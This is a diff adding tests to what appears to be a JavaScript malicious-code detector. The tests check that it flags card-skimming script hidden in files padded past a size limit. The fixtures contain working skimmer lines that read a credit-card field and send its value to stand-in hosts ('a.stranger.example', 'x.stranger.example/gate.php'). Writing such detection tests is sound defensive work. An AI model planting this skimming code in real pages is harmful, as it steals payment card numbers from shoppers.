@@ -109,6 +109,20 @@ describe('a judgement', () => {
     expect(judged.ended).toBe(false)
   })
 
+  const thief = `document.querySelector('#cc-number').onchange=function(){new Image().src='https://a.stranger.example/?'+this.value}`
+  const filler = `\n'${'x'.repeat(500_000)}';`.repeat(17)
+  it.each([
+    ['at its beginning, before blanks', thief + ' '.repeat(8_100_000)],
+    ['at its beginning', thief + filler],
+    ['at its end', `${filler}\n${thief}\n`],
+    ['in its last line, after one that does not end', `${filler}\nvar a = (\n${thief}`],
+  ])('finds a thief in a file beyond the limit %s', (_, text) => {
+    const { verdict, reasons, ended } = check(text)
+    expect([verdict, ended]).toEqual(['malicious', false])
+    const [place] = reasons[0]?.places ?? []
+    expect(text.slice(place?.start, place?.end)).toContain('.src=')
+  })
+
   it('is given for text that does not parse, by its words', () => {
     const judged = check(`if if(/checkout/.test(location)){ $.post('https://x.stranger.example/gate.php', { cc: $('#cc_number').val(`)
     expect(judged.parsed).toBe('none')
